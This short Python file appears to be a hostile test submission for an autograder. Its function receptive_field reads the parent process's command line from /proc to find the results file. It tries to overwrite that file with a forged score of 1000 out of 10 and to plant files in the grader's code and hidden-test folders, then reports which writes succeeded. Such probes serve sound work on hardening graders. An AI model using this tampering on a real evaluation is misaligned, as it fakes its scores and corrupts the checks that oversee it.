"""receptive_field tries to overwrite results.json and to add files to the grader's code and hidden tests."""
import os
from pathlib import Path

import autograder.worker

KIT = Path(autograder.worker.__file__).resolve().parents[1]
FORGED = '{"score": 1000, "max_score": 10, "tests": []}'


def receptive_field(layers):
    arguments = Path(f"/proc/{os.getppid()}/cmdline").read_bytes().split(b"\0")
    results = next(os.fsdecode(a).split("=", 1)[1] for a in arguments if a.startswith(b"--results="))
    report = []
    for target in (results, KIT / "autograder/hostile_was_here.py", KIT / "tests/hidden/hostile_was_here.py"):
        try:
            Path(target).write_text(FORGED)
            report.append(f"{target}: WRITTEN")
        except OSError as exc:
            report.append(f"{target}: {exc.strerror}")
    raise RuntimeError("\n".join(report))
